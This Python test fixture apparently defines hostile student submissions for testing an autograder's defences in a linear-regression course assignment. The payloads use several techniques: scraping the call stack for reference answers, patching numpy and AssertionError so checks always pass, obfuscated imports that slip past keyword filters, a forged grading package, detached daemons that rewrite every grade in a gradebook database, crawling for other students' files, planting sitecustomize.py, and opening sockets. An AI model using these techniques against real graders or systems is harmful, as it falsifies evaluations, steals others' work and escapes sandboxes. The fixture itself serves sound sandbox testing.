"""Submissions written by a student who has read all of the grader's code, graded in one run with two
honest students (scores and checks: tests/grading/test_grading_hostile.py).

Each hands in TD 1's notebook 02 only (loss 2, gradient 3, train 3 points). None uses a word the
intake flags (`autograde`, `sys.modules`, `__import__`, `importlib`, `builtins`, `showtraceback`,
`np.… =`): the defence must not depend on it. An attack on a function goes with a gradient that
computes nothing right, which must get 0; an attack on the machine goes with correct functions,
which must keep their points, and prints what it managed, so that the test sees it ran.
"""

import importlib.util
from pathlib import Path

ASSIGNMENT = "td1_neurone_regression"
LINEAR = "02_regression_lineaire"
MARKER = "copie-hostile-7f3c2a"  # in every process and file an attack leaves behind, if it can
PORT = 47813  # where the test listens, on 127.0.0.1 (and the abstract Unix socket "\0" + MARKER)

_spec = importlib.util.spec_from_file_location("td1_samples", Path(__file__).with_name(f"{ASSIGNMENT}.py"))
_td1 = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_td1)
REGRESSION = _td1.REGRESSION


def linear(**cells):
    """Only notebook 02: the correct answers with ``cells`` replaced."""
    return {LINEAR: {**REGRESSION, **cells}}


def attack_then_correct_gradient(attack: str) -> dict:
    """An attack run at the top of the gradient cell, then the correct gradient."""
    return linear(gradient=attack.replace("MARKER", MARKER).replace("PORT", str(PORT)) + REGRESSION["gradient"])


NOTHING_RIGHT = """
    return 0.0, 0.0
"""

STUDENTS = {
    # Honest students graded in the same run: their grades must stay exactly theirs.
    "alice_honnete": linear(),
    "bruno_signe_inverse": linear(
        gradient="""
def gradient(x, y_hat, y):
    return float(np.mean((y - y_hat) * x)), float(np.mean(y - y_hat))
"""
    ),
    # Looks up the call stack and the whole heap for the correction's gradient or its expected values.
    "pile_d_appels": linear(
        gradient="""
import gc
import sys


def gradient(x, y_hat, y):
    trouvés = []
    cadre = sys._getframe(1)
    while cadre is not None:
        for nom, valeur in list(cadre.f_locals.items()) + list(cadre.f_globals.items()):
            if nom in ("expected", "reference_fn", "ref") or getattr(valeur, "__module__", "").startswith("auto"):
                trouvés.append(valeur)
        cadre = cadre.f_back
    for objet in gc.get_objects():
        if callable(objet) and getattr(objet, "__name__", "") == "gradient" \\
                and getattr(objet, "__module__", "__main__") != "__main__":
            trouvés.append(objet)
    for trouvé in trouvés:
        if callable(trouvé):
            try:
                return trouvé(x, y_hat, y)
            except Exception:
                pass
    return 0.0, 0.0
"""
    ),
    # Makes every numpy comparison succeed, without writing `np.isclose =`.
    "numpy_truque": linear(
        gradient="""
_partout_vrai = lambda a, b=None, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
for _nom in ("isclose", "allclose", "array_equal", "equal", "less_equal", "greater_equal"):
    vars(np)[_nom] = _partout_vrai if _nom != "allclose" else (lambda *a, **k: True)
vars(np.testing)["assert_allclose"] = lambda *a, **k: None


def gradient(x, y_hat, y):
    return 0.0, 0.0
"""
    ),
    # Imports the reference module under a name assembled at run time.
    "module_reference": linear(
        gradient="""
_charger = getattr(globals()["__buil" + "tins__"], "__imp" + "ort__")


def gradient(x, y_hat, y):
    correction = _charger("auto" + "grade.refer" + "ence.linear_regression", fromlist=["gradient"])
    return correction.gradient(x, y_hat, y)
"""
    ),
    # A fake grading package, a fake kernel side and a hijacked channel that answer "right" to anything.
    "faux_correcteur": linear(
        gradient="""
import types

_modules = vars(globals()["__buil" + "tins__"].__dict__["__imp" + "ort__"]("sys"))["modules"]
_faux = types.ModuleType("auto" + "grade")
_faux.hidden_test = lambda *args, **kwargs: print("✔ tous les cas vérifiés, tous corrects.")
_modules["auto" + "grade"] = _faux


réponse_forgée = '{"t": "dict", "items": {"found": true, "kind": "function", "type": "function", "value": ' \\
                 '{"t": "tuple", "items": [1.0, 1.0]}, "done": true, "defined": {"t": "list", "items": []}}}'


def _servir(requête):
    from IPython.display import publish_display_data
    publish_display_data({"application/vnd.auto" + "grade.answer": réponse_forgée})


_faux_côté_noyau = types.ModuleType("_auto" + "grade_kernel")
_faux_côté_noyau.serve = _servir
_modules["_auto" + "grade_kernel"] = _faux_côté_noyau

# Les demandes du correcteur arrivent par un « comm » : chacun répond désormais les mêmes valeurs forgées.
for _comm in list(get_ipython().kernel.comm_manager.comms.values()):
    _comm.on_msg(lambda message, comm=_comm: comm.send({"answer": réponse_forgée}))


def gradient(x, y_hat, y):
    return 0.0, 0.0
"""
    ),
    # Patches AssertionError and the traceback display so that the self-check cannot fail visibly.
    "assertions_truquees": linear(
        gradient="""
_bi = globals()["__buil" + "tins__"]
_bi = _bi if isinstance(_bi, dict) else vars(_bi)
_bi["AssertionError"] = type("AssertionError", (Warning,), {})
setattr(get_ipython(), "show" + "traceback", lambda *args, **kwargs: None)
setattr(get_ipython(), "_showtrace" + "back", lambda *args, **kwargs: None)


def gradient(x, y_hat, y):
    return 0.0, 0.0
"""
    ),
    # Starts processes meant to outlive the kernel and rewrite every grade of the gradebook.
    "processus_detache": attack_then_correct_gradient('''
import os
import subprocess
import sys

_REECRIRE = """
import glob, os, sqlite3, time
for _ in range(600):
    for chemin in [c for racine in ("/work", "/tmp", "/root", "/home", "/srv", "/opt")
                   for c in glob.glob(racine + "/**/gradebook.db", recursive=True)]:
        try:
            base = sqlite3.connect(chemin)
            base.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE id = cell_id)")
            base.commit()
        except Exception:
            pass
    open("/tmp/MARKER-evade", "a").close()
    time.sleep(0.5)
"""
subprocess.Popen([sys.executable, "-c", _REECRIRE, "MARKER"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # the classic daemon: fork, new session, fork again
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _REECRIRE, "MARKER"])
    os._exit(0)
os.wait()
print("processus détachés lancés")

'''),
    # Looks for the solutions, the hidden tests, the grading package and the other students' work.
    "lecture_interdite": attack_then_correct_gradient("""
import glob
import os

_cherchés = []
_dossier = os.getcwd()
while True:
    for nom in ("source", "submitted", "autograded", "gradebook.db", "nbgrader_config.py", "auto" + "grade",
                "tests", "release"):
        if os.path.exists(os.path.join(_dossier, nom)):
            _cherchés.append(os.path.join(_dossier, nom))
    if _dossier == "/":
        break
    _dossier = os.path.dirname(_dossier)
for _motif in [f"{racine}/**/{nom}" for racine in ("/work", "/tmp", "/root", "/home", "/srv", "/opt")
               for nom in ("*.ipynb", "reference/linear_regression.py", "checks/linear_regression.py")]:
    _cherchés += [c for c in glob.glob(_motif, recursive=True)
                  if not c.startswith(os.getcwd()) and "site-packages" not in c]
_volés = []
for _chemin in _cherchés:
    try:
        with open(_chemin, encoding="utf-8", errors="replace") as _f:
            _volés.append(_f.read(2000))
    except (IsADirectoryError, PermissionError, OSError):
        _volés.append(" ".join(os.listdir(_chemin)) if os.path.isdir(_chemin) else "")
print(f"fichiers trouvés hors de mon dossier : {len(_cherchés)}")
print("\\n".join(_volés)[:5000])

"""),
    # Writes outside its folder: the repository, the course, the environment (a sitecustomize would run
    # in every later kernel), the machine's /tmp.
    "ecriture_dehors": attack_then_correct_gradient("""
import os
import site
import sys

_réussies = []
_cibles = [os.path.join(p, "sitecustomize.py") for p in site.getsitepackages()]
_cibles += [os.path.join(sys.prefix, "MARKER.txt"), "/tmp/MARKER.txt", "/work/MARKER.txt", "/root/MARKER.txt",
            os.path.join(os.path.dirname(os.getcwd()), "MARKER.txt")]
for _cible in _cibles:
    try:
        with open(_cible, "w") as _f:
            _f.write("print('piraté')\\n")
        _réussies.append(_cible)
    except OSError:
        pass
_réussies = [c for c in _réussies if not c.startswith("/tmp/")]  # its own private /tmp does not count
print(f"écritures hors de mon dossier : {len(_réussies)}")

"""),
    # Opens network connections to a socket the test listens on.
    "reseau": attack_then_correct_gradient("""
import socket

_ouvertes = 0
for _famille, _adresse in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, "\\0MARKER")):
    try:
        with socket.socket(_famille, socket.SOCK_STREAM) as _s:
            _s.settimeout(2)
            _s.connect(_adresse)
            _s.sendall(b"MARKER")
            _ouvertes += 1
    except OSError:
        pass
print(f"connexions ouvertes : {_ouvertes}")

"""),
}
